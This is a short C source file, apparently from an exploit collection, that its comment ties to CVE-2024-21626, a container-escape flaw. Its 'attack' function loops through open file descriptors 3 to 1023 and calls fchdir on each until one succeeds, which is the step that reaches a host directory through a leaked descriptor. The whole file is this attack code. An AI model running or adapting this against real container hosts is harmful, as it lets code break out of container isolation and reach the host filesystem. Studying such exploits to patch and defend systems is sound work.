/* A directory of the host by a descriptor that was left open (CVE-2024-21626). */
#include "attack.h"

static long attack(char **argv)
{
    (void)argv;
    for (int fd = 3; fd < 1024; fd++)
        if (fchdir(fd) == 0)
            return fd;
    return -1;
}
